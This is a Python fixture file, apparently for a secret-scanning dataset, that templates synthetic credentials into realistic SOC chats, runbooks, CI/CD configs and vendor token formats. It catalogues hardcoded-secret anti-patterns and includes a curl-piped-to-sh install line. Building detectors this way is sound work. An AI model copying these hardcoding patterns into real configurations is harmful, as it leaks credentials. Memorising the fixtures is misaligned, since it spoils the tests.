NOTE("email-temporary-password-body",
    "From: it-servicedesk@{orgdom}\nSubject: Your temporary password\n\nHi {first}, your temporary password for the SOC portal is: {S}\nYou will be asked to change it at first login.",
    pw, "Subject: Your temporary password")
NOTE("pagerduty-note-break-glass",
    "PD incident #{num} note ({first}): used break-glass account bg-soc-01, pw {S}, to unlock the SIEM cluster. Envelope resealed and logged.",
    pw, "used break-glass account bg-soc-01")
NOTE("todo-checklist-key-only-here",
    "TODO\n- [x] request Shodan enterprise key\n- [ ] add key {S} to vault (currently only in this note!)\n- [ ] update enrichment playbook",
    lambda: al(32), "- [ ] update enrichment playbook")
NOTE("meeting-notes-creds-abbrev",
    "IR sync {date}\n* forensics share: \\\\{host}\\ir$   creds: ir_share / {S}\n* next sync Thursday {time}",
    pw, "* next sync Thursday")
NOTE("war-room-wifi-no-label",
    "wifi in the war room (3rd floor): SOC-WarRoom / {S}",
    pw, "SOC-WarRoom")
NOTE("runbook-step-enroll-token-in-backticks",
    "## Re-enroll an agent\n1. Stop the service\n2. Run `elastic-agent enroll --url https://fleet.{org}.internal:8220 --enrollment-token {S}`\n3. Verify the host shows up in Fleet",
    elastic_apikey, "## Re-enroll an agent")
NOTE("chat-correction-actual-key",
    "{first}: oops wrong one, that was dev. the actual prod MISP key is {S}",
    lambda: al(40), "oops wrong one, that was dev.")
NOTE("sticky-note-transcription",
    "photo of the sticky note on the jump box monitor says: \"root - {S}\"  (!!! raising with facilities)",
    pw, "raising with facilities")
NOTE("shift-log-markdown-table-reset",
    "| time | analyst | action |\n|---|---|---|\n| {time} | {first} | reset {user} password to `{S}` |\n| {time_2} | {first_2} | closed {ticket} |",
    pw, "closed {ticket}")
NOTE("okta-recovery-code-note",
    "Okta recovery code for the soc-shared account (one-time): {S}",
    lambda: lo(5) + "-" + lo(5) + "-" + lo(5), "soc-shared account")
NOTE("agent-finding-hardcoded-key",
    "Finding: {app} has a hardcoded Datadog API key ({S}) in config/default.yaml; flagged to the owner, needs rotation.",
    lambda: hexs(32), "in config/default.yaml")
NOTE("de-standup-api-schluessel",
    "Kurzes Update: der neue API-Schlüssel für urlscan lautet {S}, liegt noch nicht im Vault.",
    guid, "liegt noch nicht im Vault")
NOTE("fr-chat-jeton-sentinelone",
    "Salut {first}, voici le jeton SentinelOne pour le script de chasse : {S} (expire dans 30 jours)",
    s1_token, "expire dans 30 jours")
NOTE("es-clave-api-abuseipdb",
    "Ojo: la clave de API de AbuseIPDB es {S}, límite de 1000 consultas al día.",
    lambda: hexs(80), "límite de 1000 consultas al día")
NOTE("pt-client-secret-crowdstrike",
    "O client secret da API da CrowdStrike (cliente {md5}) é {S}. Guardar no cofre depois.",
    cs_secret, "Guardar no cofre depois.")
NOTE("ja-vt-api-key-share",
    "VirusTotalのAPIキー: {S}（社内共有用、外部に出さないこと）",
    lambda: hexs(64), "社内共有用")
NOTE("zh-kibana-admin-mima",
    "Kibana 管理员账号 elastic，密码 {S}，请勿外传。",
    pw, "Kibana 管理员账号 elastic")
NOTE("ko-tenable-secret-key",
    "Tenable 시크릿 키: {S} (액세스 키는 {sha256})",
    lambda: hexs(64), "Tenable 시크릿 키")
NOTE("ru-token-opencti-connector",
    "Токен для коннектора OpenCTI: {S} — не коммитить!",
    guid, "не коммитить!")
NOTE("it-token-bot-slack",
    "Il token del bot Slack per gli alert in {chan} è {S}",
    xoxb, "per gli alert in {chan}")
NOTE("nl-shodan-api-sleutel",
    "De Shodan API-sleutel staat nog niet in de kluis: {S}",
    lambda: al(32), "staat nog niet in de kluis")
NOTE("pl-klucz-api-greynoise",
    "Klucz API do GreyNoise (konto zespołowe): {S}",
    lambda: al(64), "konto zespołowe")
NOTE("tr-misp-api-anahtari",
    "MISP API anahtarı: {S} (sadece okuma yetkili)",
    lambda: al(40), "sadece okuma yetkili")
NOTE("goal-with-postgres-url",
    "Goal: migrate the case DB. Source postgres://{user}:{S}@{host}:5432/cases -> target RDS in {region}.",
    pw_url, "target RDS in {region}")
NOTE("handover-label-then-value-next-line",
    "On-call handover\n- Qualys API user: {user}\n- Qualys API password:\n    {S}\n- Scan window 01:00-04:00 UTC",
    pw, "- Qualys API user: {user}")
NOTE("chat-code-fence-env-pair",
    "```\nCS_CLIENT_ID={md5}\nCS_CLIENT_SECRET={S}\n```\n^ that's for the new streaming app, {first}",
    cs_secret, "^ that's for the new streaming app")
NOTE("agent-scratchpad-json-state",
    "{\"step\": 4, \"note\": \"auth ok, token cached\", \"token\": \"{S}\", \"next\": \"pull detections since {date}\"}",
    jwt, "\"next\": \"pull detections since {date}\"")
NOTE("email-forward-vendor-api-credentials",
    "---------- Forwarded message ---------\nFrom: support@censys.example\nSubject: API credentials\n\nYour API credentials for the {org} organization:\nAPI ID: {uuid}\nAPI Secret: {S}",
    lambda: al(32), "API ID: {uuid}")
NOTE("irc-style-pw-for",
    "<{first}> pw for the idx cluster mgmt ui is {S}\n<{first_2}> ty",
    pw, "<{first_2}> ty")
NOTE("gpg-passphrase-evidence-key",
    "GPG passphrase for the evidence signing key (0x{kid}): {S}",
    lambda: (_pw_phrase(), {"kid": HEXS(16)}), "evidence signing key (0x{kid})")
NOTE("keepass-master-password-note",
    "KeePass master for soc-shared.kdbx: {S}  (tier2 leads only)",
    pw, "soc-shared.kdbx")
NOTE("call-transcript-password-spoken",
    "[call transcript {time}] {first}: ...ok so the password for the jump host is {S}, capital first letter, and then you should be in.",
    pw, "[call transcript {time}]")
NOTE("ticket-repro-steps-bearer",
    "Steps to reproduce:\n1. curl -H 'Authorization: Bearer {S}' https://api.{org}.example/v2/alerts\n2. observe HTTP 500 after ~30s",
    lambda: b64u(32), "observe HTTP 500")
NOTE("postmortem-leaked-pat-value",
    "Postmortem {ticket}: the leaked credential was {S} (GitHub PAT of soc-bot), revoked at {time} UTC.",
    ghp, "(GitHub PAT of soc-bot)")
NOTE("spanglish-chat-password",
    "ya cambié el password del {user}, ahora es {S} ok? avísame si no jala",
    pw, "avísame si no jala")
NOTE("emoji-chat-new-admin-pw",
    "🔑 {S} <- new admin pw for cortex, don't lose it 🙏",
    pw, "new admin pw for cortex")
NOTE("handover-sentinel-workspace-primary-key",
    "Sentinel ingestion: primary key for workspace {uuid} is {S} (secondary unchanged).",
    azkey, "(secondary unchanged)")
NOTE("bridge-invite-meeting-password",
    "Bridge for {ticket}: https://{org}.webex.example/meet/ir-bridge  password: {S}",
    pw_plain, "https://{org}.webex.example/meet/ir-bridge")
NOTE("splunk-cloud-welcome-sc-admin",
    "Splunk Cloud stack {org}-soc.splunkcloud.com is up: sc_admin / {S} (initial, from the welcome email).",
    pw, "{org}-soc.splunkcloud.com")
NOTE("decision-log-keep-old-token-for-rollback",
    "Decision {date}: keep the previous S1 token ({S}) valid for 24h so the rollback path still works.",
    s1_token, "so the rollback path still works")
NOTE("analyst-diary-mixed-languages",
    "{date} — note para mim: Tenable SC admin = {user}, Passwort {S}. TODO rotate.",
    pw, "note para mim")
NOTE("slack-dm-kafka-sasl-creds",
    "DM from {first}: kafka sasl for the edr topic -> user {user}, pass {S}, mechanism SCRAM-SHA-512",
    pw, "mechanism SCRAM-SHA-512")
NOTE("agent-plan-with-vendor-key-inline",
    "Plan:\n1. query urlscan for {dom} (key {S})\n2. pivot on the IPs in Shodan\n3. write IOC list to {ticket}",
    guid, "2. pivot on the IPs in Shodan")


# =====================================================================
# group: ci-and-deploy  (pipelines, manifests, IaC, deploy scripts)
# =====================================================================
def _dockerconfigjson():
    auth = enc64(_pick(_SVC) + ":" + pw())
    return enc64(json.dumps({"auths": {"registry.%s.internal" % _pick(_ORGS): {"auth": auth}}}))


CI("gha-workflow-job-env-literal",
    "name: push-detections\non:\n  push:\n    branches: [main]\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    env:\n      SPLUNK_HEC_URL: https://{host}:8088\n      SPLUNK_HEC_TOKEN: {S}\n    steps:\n      - uses: actions/checkout@v4",
    guid, "SPLUNK_HEC_URL: https://{host}:8088")
CI("gha-docker-login-action-with-password",
    "- uses: docker/login-action@v3\n  with:\n    registry: ghcr.io\n    username: soc-bot\n    password: {S}",
    ghp, "uses: docker/login-action@v3")
CI("gitlab-ci-variables-block-literal",
    "variables:\n  MISP_URL: https://misp.{org}.internal\n  MISP_KEY: \"{S}\"\n\nsync-iocs:\n  stage: deploy\n  script: python3 sync.py --since 1d",
    lambda: al(40), "MISP_URL: https://misp.{org}.internal")
CI("jenkinsfile-environment-literal",
    "pipeline {\n  agent { label 'soc' }\n  environment {\n    TENABLE_ACCESS = '{sha256}'\n    TENABLE_SECRET = '{S}'\n  }\n  stages {\n    stage('export') { steps { sh './export_vulns.sh' } }\n  }\n}",
    lambda: hexs(64), "sh './export_vulns.sh'")
CI("jenkins-credentials-xml-username-password",
    "<com.cloudbees.plugins.credentials.impl.UsernamePasswordCredentialsImpl>\n  <scope>GLOBAL</scope>\n  <id>qualys-api</id>\n  <username>{user}</username>\n  <password>{S}</password>\n</com.cloudbees.plugins.credentials.impl.UsernamePasswordCredentialsImpl>",
    pw, "<id>qualys-api</id>")
CI("circleci-docker-auth-password",
    "jobs:\n  build:\n    docker:\n      - image: registry.{org}.internal/soc/py-builder:3.12\n        auth:\n          username: soc-ci\n          password: {S}",
    pw, "username: soc-ci")
CI("azure-pipelines-variables-name-value",
    "variables:\n  - name: WORKSPACE_ID\n    value: '{uuid}'\n  - name: SENTINEL_SHARED_KEY\n    value: '{S}'",
    azkey, "value: '{uuid}'")
CI("bitbucket-pipelines-script-export",
    "pipelines:\n  default:\n    - step:\n        name: integration tests\n        script:\n          - export VT_API_KEY={S}\n          - pytest tests/integration -q",
    lambda: hexs(64), "pytest tests/integration -q")
CI("drone-plugin-docker-settings-password",
    "steps:\n- name: publish\n  image: plugins/docker\n  settings:\n    repo: registry.{org}.internal/soc/enricher\n    username: drone\n    password: {S}",
    pw, "repo: registry.{org}.internal/soc/enricher")
CI("k8s-deployment-env-value-literal",
    "    spec:\n      containers:\n        - name: {app}\n          image: registry.{org}.internal/soc/{app}:{ver}\n          env:\n            - name: S1_API_TOKEN\n              value: \"{S}\"",
    s1_token, "image: registry.{org}.internal/soc/{app}:{ver}")
CI("kustomize-secretgenerator-literals",
    "secretGenerator:\n- name: opencti-connector\n  literals:\n  - OPENCTI_TOKEN={S}\n  - CONNECTOR_ID={uuid}",
    guid, "CONNECTOR_ID={uuid}")
CI("helm-install-continuation-hec-token",
    "helm upgrade --install sck ./splunk-connect-for-kubernetes -n {ns} \\\n  --set global.splunk.hec.host={host} \\\n  --set global.splunk.hec.token={S} \\\n  --set global.splunk.hec.insecureSSL=true",
    guid, "--set global.splunk.hec.host={host}")
CI("terraform-provider-crowdstrike-block",
    "provider \"crowdstrike\" {\n  client_id     = \"{md5}\"\n  client_secret = \"{S}\"\n  cloud         = \"eu-1\"\n}",
    cs_secret, "cloud         = \"eu-1\"")
CI("terraform-variable-default-sensitive",
    "variable \"splunk_admin_password\" {\n  type      = string\n  sensitive = true\n  default   = \"{S}\"\n}",
    pw, "variable \"splunk_admin_password\"")
CI("terraform-key-vault-secret-value",
    "resource \"azurerm_key_vault_secret\" \"vt\" {\n  name         = \"vt-api-key\"\n  value        = \"{S}\"\n  key_vault_id = azurerm_key_vault.soc.id\n}",
    lambda: hexs(64), "key_vault_id = azurerm_key_vault.soc.id")
CI("ansible-play-vars-admin-password",
    "- hosts: misp\n  become: true\n  vars:\n    misp_admin_email: {email}\n    misp_admin_password: \"{S}\"\n  roles:\n    - misp",
    pw, "misp_admin_email: {email}")
CI("ansible-uri-task-bearer-header",
    "- name: Register Cortex analyzers\n  ansible.builtin.uri:\n    url: https://cortex.{org}.internal/api/organization/analyzer/VirusTotal_GetReport_3_1\n    method: POST\n    headers:\n      Authorization: \"Bearer {S}\"",
    lambda: _chars(_AL + "+/", 32), "- name: Register Cortex analyzers")
CI("dockerfile-arg-default-gitlab-token",
    "ARG GITLAB_TOKEN={S}\nRUN pip install git+https://oauth2:${GITLAB_TOKEN}@gitlab.{org}.internal/soc/libthreat.git@v{ver}",
    glpat, "gitlab.{org}.internal/soc/libthreat.git")
CI("docker-compose-build-args-npm-token",
    "  ti-portal:\n    build:\n      context: ./portal\n      args:\n        NPM_TOKEN: {S}\n    ports: [\"3000:3000\"]",
    npm_tok, "context: ./portal")
CI("packer-hcl-variable-winrm-password",
    "variable \"winrm_password\" {\n  type    = string\n  default = \"{S}\"\n}\n\nsource \"vsphere-iso\" \"soc-analyst-ws\" {\n  communicator = \"winrm\"",
    pw, "source \"vsphere-iso\" \"soc-analyst-ws\"")
CI("pulumi-stack-config-plaintext",
    "config:\n  soc-infra:region: {region}\n  soc-infra:splunkAdminPassword: {S}\n  soc-infra:hecTokenRef: vault://secret/siem/hec",
    pw, "soc-infra:region: {region}")
CI("serverless-yml-provider-environment",
    "provider:\n  name: aws\n  runtime: python3.12\n  region: {region}\n  environment:\n    ABUSEIPDB_KEY: {S}\n    LOG_LEVEL: INFO",
    lambda: hexs(80), "runtime: python3.12")
CI("fly-secrets-set-inline",
    "fly secrets set MISP_KEY={S} MISP_URL=https://misp.{org}.internal -a ioc-sync",
    lambda: al(40), "-a ioc-sync")
CI("heroku-config-set-api-key",
    "heroku config:set URLSCAN_API_KEY={S} --app phish-triage-{small}",
    guid, "--app phish-triage-{small}")
CI("vercel-env-add-echo-pipe",
    "echo -n '{S}' | vercel env add OPENCTI_TOKEN production",
    guid, "vercel env add OPENCTI_TOKEN production")
CI("gh-secret-set-body-flag",
    "gh secret set SHODAN_API_KEY --body '{S}' --repo {org}/threat-hunting",
    lambda: al(32), "--repo {org}/threat-hunting")
CI("glab-variable-set-masked",
    "glab variable set TENABLE_SECRET_KEY '{S}' --masked --protected -R soc/vuln-export",
    lambda: hexs(64), "-R soc/vuln-export")
CI("cloudbuild-substitutions-key",
    "substitutions:\n  _CHRONICLE_API_KEY: {S}\n  _REGION: {region}\nsteps:\n- name: gcr.io/cloud-builders/gcloud\n  args: ['functions', 'deploy', 'chronicle-ingest']",
    gapi, "'chronicle-ingest'")
CI("buildkite-pipeline-env",
    "env:\n  GREYNOISE_API_KEY: \"{S}\"\nsteps:\n  - label: \":mag: enrich\"\n    command: make enrich",
    lambda: al(64), "command: make enrich")
CI("teamcity-kotlin-dsl-param",
    "object QualysExport : BuildType({\n    params {\n        param(\"env.QUALYS_USER\", \"{user}\")\n        param(\"env.QUALYS_PASSWORD\", \"{S}\")\n    }\n})",
    pw, "object QualysExport : BuildType(")
CI("tekton-step-env-value",
    "steps:\n  - name: push-rules\n    image: curlimages/curl:8.5.0\n    env:\n      - name: ELASTIC_API_KEY\n        value: {S}\n    script: ./push_rules.sh",
    elastic_apikey, "script: ./push_rules.sh")
CI("argocd-helm-parameters-value",
    "spec:\n  source:\n    repoURL: https://git.{org}.internal/soc/charts.git\n    helm:\n      parameters:\n        - name: thehive.secret\n          value: {S}",
    lambda: al(64), "- name: thehive.secret")
CI("nomad-template-heredoc-env",
    "template {\n  data        = <<EOH\nVT_API_KEY={S}\nEOH\n  destination = \"secrets/file.env\"\n  env         = true\n}",
    lambda: hexs(64), "destination = \"secrets/file.env\"")
CI("consul-acl-tokens-agent-hcl",
    "acl {\n  enabled        = true\n  default_policy = \"deny\"\n  tokens {\n    agent = \"{S}\"\n  }\n}",
    guid, "default_policy = \"deny\"")
CI("vault-agent-secret-id-file",
    "# /etc/vault-agent/secret-id  (approle soar-worker, written by bootstrap)\n{S}",
    guid, "approle soar-worker")
CI("cloud-init-chpasswd-list",
    "#cloud-config\nchpasswd:\n  list: |\n    soc-admin:{S}\n  expire: false\nssh_pwauth: true",
    pw_noat, "#cloud-config")
CI("cloud-init-runcmd-tailscale-authkey",
    "runcmd:\n  - curl -fsSL https://tailscale.com/install.sh | sh\n  - tailscale up --authkey={S} --hostname=jump-{small} --advertise-tags=tag:soc",
    lambda: "tskey-auth-k" + al(10) + "CNTRL-" + al(33), "--advertise-tags=tag:soc")
CI("chef-data-bag-item-json",
    "{\n  \"id\": \"splunk\",\n  \"admin_user\": \"admin\",\n  \"admin_password\": \"{S}\"\n}",
    pw, "\"id\": \"splunk\"")
CI("puppet-hiera-profile-password",
    "profile::wazuh::manager: {host}\nprofile::wazuh::api_user: wazuh-wui\nprofile::wazuh::api_password: '{S}'",
    pw, "profile::wazuh::manager: {host}")
CI("salt-pillar-deploy-password",
    "splunk:\n  deploy_server: {host}:8089\n  deploy_user: admin\n  deploy_password: {S}",
    pw, "deploy_server: {host}:8089")
CI("gitlab-ci-script-curl-basic",
    "deploy_rules:\n  stage: deploy\n  script:\n    - curl -sk -u admin:{S} https://{host}:8089/services/apps/local -d name=soc_detections -d update=true",
    pw_noat, "deploy_rules:")
CI("gha-run-echo-password-stdin",
    "- name: Login to GHCR\n  run: echo \"{S}\" | docker login ghcr.io -u soc-bot --password-stdin",
    ghp, "- name: Login to GHCR")
CI("gha-slack-webhook-env",
    "- uses: slackapi/slack-github-action@v1.26.0\n  with:\n    payload: '{\"text\": \"detections deployed\"}'\n  env:\n    SLACK_WEBHOOK_URL: https://hooks.slack.com/services/{tid}/{bid}/{S}",
    lambda: (al(24), {"tid": "T" + up(10), "bid": "B" + up(10)}), "uses: slackapi/slack-github-action@v1.26.0")
CI("azure-pipelines-script-az-login",
    "- script: |\n    az login --service-principal -u $(SP_APP_ID) -p {S} --tenant $(TENANT_ID)\n    az sentinel alert-rule list -g rg-soc -w law-soc\n  displayName: list analytics rules",
    azure_cs, "displayName: list analytics rules")
CI("gitlab-before-script-write-npmrc",
    "before_script:\n  - echo \"//registry.npmjs.org/:_authToken={S}\" > .npmrc\n  - npm ci",
    npm_tok, "- npm ci")
CI("k8s-configmap-misused-password",
    "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: wazuh-dashboard\ndata:\n  OPENSEARCH_HOSTS: https://wazuh-indexer:9200\n  OPENSEARCH_PASSWORD: \"{S}\"",
    pw, "name: wazuh-dashboard")
CI("k8s-secret-data-base64-password",
    "apiVersion: v1\nkind: Secret\nmetadata:\n  name: graylog-root\ntype: Opaque\ndata:\n  password: {S}",
    lambda: enc64(pw()), "name: graylog-root")
CI("helmfile-inline-values-token",
    "releases:\n  - name: cribl-edge\n    chart: cribl/edge\n    values:\n      - cribl:\n          leader: tls://{S}@cribl-leader.{org}.internal:4200",
    lambda: al(32), "chart: cribl/edge")
CI("group-vars-yaml-hec-token",
    "# group_vars/all/main.yml\nsplunk_hec_url: https://{host}:8088\nsplunk_hec_token: {S}",
    guid, "# group_vars/all/main.yml")
CI("terraform-backend-s3-keys",
    "terraform {\n  backend \"s3\" {\n    bucket     = \"{bucket}\"\n    key        = \"soc/terraform.tfstate\"\n    access_key = \"{ak}\"\n    secret_key = \"{S}\"\n  }\n}",
    lambda: (aws_secret(), {"ak": akid()}), "key        = \"soc/terraform.tfstate\"")
CI("terraform-elasticstack-provider-password",
    "provider \"elasticstack\" {\n  elasticsearch {\n    username  = \"elastic\"\n    password  = \"{S}\"\n    endpoints = [\"https://{host}:9200\"]\n  }\n}",
    pw, "endpoints = [\"https://{host}:9200\"]")
CI("terraform-splunk-provider-password",
    "provider \"splunk\" {\n  url                  = \"{host}:8089\"\n  username             = \"admin\"\n  password             = \"{S}\"\n  insecure_skip_verify = true\n}",
    pw, "url                  = \"{host}:8089\"")
CI("gha-services-postgres-password",
    "services:\n  postgres:\n    image: postgres:16\n    env:\n      POSTGRES_USER: cases\n      POSTGRES_PASSWORD: {S}\n    ports: ['5432:5432']",
    pw_plain, "image: postgres:16")
CI("deploy-script-sshpass-rsync",
    "#!/bin/sh\n# deploy detections to the deployer\nsshpass -p \"{S}\" rsync -az rules/ deploy@{host}:/opt/splunk/etc/deployment-apps/soc_detections/",
    pw, "deploy@{host}")
CI("ansible-group-vars-ssh-pass",
    "ansible_user: deploy\nansible_ssh_pass: {S}\nansible_become: true\nansible_become_method: sudo",
    pw, "ansible_become_method: sudo")
CI("argo-workflow-arguments-parameter",
    "spec:\n  entrypoint: enrich\n  arguments:\n    parameters:\n    - name: vt-key\n      value: {S}\n    - name: batch-size\n      value: \"200\"",
    lambda: hexs(64), "entrypoint: enrich")
CI("circleci-run-append-bash-env",
    "- run:\n    name: creds\n    command: echo 'export CS_CLIENT_SECRET={S}' >> $BASH_ENV",
    cs_secret, ">> $BASH_ENV")
CI("makefile-deploy-target-env-prefix",
    "deploy:\n\tSPLUNK_PASSWORD='{S}' ./scripts/deploy_apps.sh {host}",
    pw, "./scripts/deploy_apps.sh {host}")
CI("renovate-json-hostrules-token",
    "{\n  \"extends\": [\"config:recommended\"],\n  \"hostRules\": [{\"hostType\": \"npm\", \"matchHost\": \"npm.{org}.internal\", \"token\": \"{S}\"}]\n}",
    npm_tok, "\"matchHost\": \"npm.{org}.internal\"")
CI("dependabot-registries-password",
    "registries:\n  soc-nexus:\n    type: python-index\n    url: https://nexus.{org}.internal/repository/pypi/simple\n    username: dependabot\n    password: {S}",
    pw, "type: python-index")
CI("gitlab-runner-config-toml-token",
    "[[runners]]\n  name = \"soc-runner-{small}\"\n  url = \"https://gitlab.{org}.internal/\"\n  token = \"{S}\"\n  executor = \"docker\"",
    lambda: "glrt-" + _chars(_B64U, 20), "executor = \"docker\"")
CI("github-runner-config-sh-token",
    "./config.sh --url https://github.com/{org}/detections --token {S} --labels soc,linux --unattended",
    lambda: "A" + up(28), "--labels soc,linux --unattended")
CI("sonar-project-properties-login",
    "sonar.projectKey=soc-enricher\nsonar.host.url=https://sonar.{org}.internal\nsonar.login={S}",
    lambda: "squ_" + hexs(40), "sonar.projectKey=soc-enricher")
CI("sentry-cli-auth-token-env-prefix",
    "SENTRY_AUTH_TOKEN={S} sentry-cli releases new soc-portal@{ver}",
    sntrys, "sentry-cli releases new soc-portal@{ver}")
CI("ansible-cfg-galaxy-server-token",
    "[galaxy]\nserver_list = automation_hub\n\n[galaxy_server.automation_hub]\nurl=https://console.redhat.com/api/automation-hub/content/published/\ntoken={S}",
    lambda: jwt(alg="HS256"), "server_list = automation_hub")
CI("k8s-imagepullsecret-dockerconfigjson",
    "apiVersion: v1\nkind: Secret\nmetadata:\n  name: soc-registry\ntype: kubernetes.io/dockerconfigjson\ndata:\n  .dockerconfigjson: {S}",
    _dockerconfigjson, "type: kubernetes.io/dockerconfigjson")
CI("gha-env-azure-credentials-json",
    "env:\n  AZURE_CREDENTIALS: '{\"clientId\":\"{uuid}\",\"clientSecret\":\"{S}\",\"tenantId\":\"{uuid_2}\"}'",
    azure_cs, "\"tenantId\":\"{uuid_2}\"")
CI("octopus-style-deploy-variables-json",
    "{\n  \"Variables\": [\n    {\"Name\": \"Soc.Qualys.User\", \"Value\": \"{user}\", \"IsSensitive\": false},\n    {\"Name\": \"Soc.Qualys.Password\", \"Value\": \"{S}\", \"IsSensitive\": false}\n  ]\n}",
    pw, "\"Name\": \"Soc.Qualys.User\"")
CI("docker-stack-deploy-env-inline",
    "SPLUNK_PASSWORD='{S}' SPLUNK_HEC_TOKEN=$HEC docker stack deploy -c splunk-stack.yml siem",
    pw, "docker stack deploy -c splunk-stack.yml siem")
CI("spinnaker-pipeline-webhook-header",
    "\"stages\": [{\n  \"type\": \"webhook\",\n  \"url\": \"https://soar.{org}.internal/rest/playbook_run\",\n  \"customHeaders\": {\"ph-auth-token\": \"{S}\"}\n}]",
    lambda: b64(32), "https://soar.{org}.internal/rest/playbook_run")
CI("gcp-deploy-env-vars-flag",
    "gcloud run deploy phish-triage --image {region}-docker.pkg.dev/{org}-soc/triage/app:{ver} --set-env-vars=URLSCAN_KEY={S},LOG_LEVEL=info",
    guid, "gcloud run deploy phish-triage")


# =====================================================================
# group: vendor-token  (credential shapes of specific vendors, small contexts)
# =====================================================================
def _fleet_service_token():
    raw = b"\x00\x01\x00\x01elastic/fleet-server/token-" + digits(13).encode() + b":" + _chars(_B64U, 22).encode()
    return base64.b64encode(raw).decode().rstrip("=")


def _iron():
    return "Fe26.2**%s*%s*%s*%s**%s*%s" % (hexs(64), b64u(16), b64u(48), digits(13), hexs(64), b64u(32))


def _op_sa():
    return "ops_" + enc64u(json.dumps({"signInAddress": "%s.1password.com" % _pick(_ORGS), "userAuth": {"method": "SRPg-4096", "alg": "PBES2g-HS256", "iterations": 650000, "salt": b64u(16)}, "email": "%s@%s.1password.com" % (lo(13), lo(8)), "srpX": hexs(64), "muk": {"alg": "A256GCM", "ext": True, "k": b64u(32), "key_ops": ["encrypt", "decrypt"], "kty": "oct", "kid": "mp"}, "secretKey": "A3-" + up(6) + "-" + up(6) + "-" + up(5) + "-" + up(5) + "-" + up(5) + "-" + up(5), "throttleSecret": {"seed": hexs(64), "deviceUuid": lo(26)}, "deviceUuid": lo(26)}, separators=(",", ":")))


VT("github-classic-pat-ghp",
    "token for the detections-repo mirror job: {S}  (scopes: repo, read:org)",
    ghp, "(scopes: repo, read:org)")
VT("github-fine-grained-pat-header",
    "GET /repos/{org}/sigma-rules/contents/rules HTTP/1.1\nHost: api.github.com\nAuthorization: token {S}\nAccept: application/vnd.github+json",
    gh_fine, "/repos/{org}/sigma-rules/contents/rules")
VT("github-app-installation-token-ghs",
    "GH_APP_INSTALLATION_TOKEN={S}\nGH_APP_ID={num}",
    ghs, "GH_APP_ID={num}")
VT("github-refresh-token-ghr-json",
    "{\"access_token\": \"gho_[cached]\", \"refresh_token\": \"{S}\", \"refresh_token_expires_in\": 15811200}",
    lambda: "ghr_" + al(76), "\"refresh_token_expires_in\": 15811200")
VT("gitlab-private-token-header",
    "curl --header \"PRIVATE-TOKEN: {S}\" \"https://gitlab.{org}.internal/api/v4/projects/{small}/pipelines?status=failed\"",
    glpat, "https://gitlab.{org}.internal/api/v4/projects/{small}/pipelines")
VT("slack-bot-token-xoxb-env",
    "SLACK_BOT_TOKEN={S}\nSLACK_ALERT_CHANNEL={chan}",
    xoxb, "SLACK_ALERT_CHANNEL={chan}")
VT("slack-user-token-xoxp-json",
    "{\"team\": \"{org}-soc\", \"user_token\": \"{S}\", \"scopes\": [\"search:read\", \"channels:history\"]}",
    xoxp, "\"scopes\": [\"search:read\", \"channels:history\"]")
VT("slack-app-level-token-xapp",
    "SLACK_APP_TOKEN={S}   # socket mode for the triage bot",
    xapp, "# socket mode for the triage bot")
VT("stripe-live-secret-key",
    "STRIPE_SECRET_KEY={S}  # billing for the paid threat-feed portal",
    stripe_sk, "# billing for the paid threat-feed portal")
VT("stripe-restricted-key-rk-live",
    "stripe:\n  restricted_key: {S}\n  account: acct_{acid}",
    lambda: (stripe_rk(), {"acid": al(16)}), "account: acct_{acid}")
VT("stripe-webhook-signing-secret",
    "STRIPE_WEBHOOK_SECRET={S}",
    whsec, "STRIPE_WEBHOOK_SECRET=")
VT("openai-project-key-sk-proj",
    "OPENAI_API_KEY={S}\nTRIAGE_MODEL=gpt-4o-mini",
    openai_key, "TRIAGE_MODEL=gpt-4o-mini")
VT("anthropic-api-key-sk-ant",
    "export ANTHROPIC_API_KEY={S}\n# used by the alert-summary agent in {ns}",
    anthropic_key, "# used by the alert-summary agent in {ns}")
VT("google-api-key-safebrowsing-url",
    "POST https://safebrowsing.googleapis.com/v4/threatMatches:find?key={S}\n{\"threatInfo\": {\"threatTypes\": [\"MALWARE\", \"SOCIAL_ENGINEERING\"]}}",
    gapi, "safebrowsing.googleapis.com/v4/threatMatches:find")
VT("google-oauth-access-token-ya29-header",
    "Authorization: Bearer {S}\nX-Goog-User-Project: {org}-secops",
    ya29, "X-Goog-User-Project: {org}-secops")
VT("npm-automation-token-env",
    "NPM_TOKEN={S}",
    npm_tok, "NPM_TOKEN=")
VT("pypi-api-token-twine-password",
    "TWINE_USERNAME=__token__\nTWINE_PASSWORD={S}",
    pypi_tok, "TWINE_USERNAME=__token__")
VT("dockerhub-pat-dckr",
    "DOCKERHUB_USERNAME=socbot\nDOCKERHUB_TOKEN={S}",
    dckr, "DOCKERHUB_USERNAME=socbot")
VT("vault-service-token-hvs-env",
    "export VAULT_ADDR=https://{host}:8200\nexport VAULT_TOKEN={S}",
    hvs_long, "export VAULT_ADDR=https://{host}:8200")
VT("vault-batch-token-hvb",
    "X-Vault-Token: {S}",
    lambda: "hvb.AAAAAQ" + _chars(_B64U, 120), "X-Vault-Token:")
VT("terraform-cloud-token-atlasv1-credentials-block",
    "credentials \"app.terraform.io\" {\n  token = \"{S}\"\n}",
    tfc, "credentials \"app.terraform.io\"")
VT("okta-api-token-env",
    "OKTA_ORG_URL=https://{org}.okta.com\nOKTA_API_TOKEN={S}",
    okta_ssws, "OKTA_ORG_URL=https://{org}.okta.com")
VT("sendgrid-api-key-sg",
    "SENDGRID_API_KEY={S}  # phishing-sim notifications",
    sendgrid, "# phishing-sim notifications")
VT("telegram-bot-token-env",
    "TELEGRAM_BOT_TOKEN={S}\nTELEGRAM_CHAT_ID=-100{digits10}",
    lambda: (telegram(), {"digits10": digits(10)}), "TELEGRAM_CHAT_ID=-100{digits10}")
VT("azure-ad-client-secret-env",
    "AZURE_TENANT_ID={uuid}\nAZURE_CLIENT_ID={uuid_2}\nAZURE_CLIENT_SECRET={S}",
    azure_cs, "AZURE_CLIENT_ID={uuid_2}")
VT("azure-storage-account-key-env",
    "AZURE_STORAGE_ACCOUNT={org}soclogs\nAZURE_STORAGE_KEY={S}",
    azkey, "AZURE_STORAGE_ACCOUNT={org}soclogs")
VT("digitalocean-token-dop-v1",
    "DIGITALOCEAN_TOKEN={S}  # honeypot droplets",
    dop, "# honeypot droplets")
VT("grafana-service-account-token-glsa",
    "grafana:\n  url: https://grafana.{org}.internal\n  token: {S}",
    glsa, "url: https://grafana.{org}.internal")
VT("grafana-cloud-access-policy-token-glc",
    "GRAFANA_CLOUD_TOKEN={S}",
    _glc, "GRAFANA_CLOUD_TOKEN=")
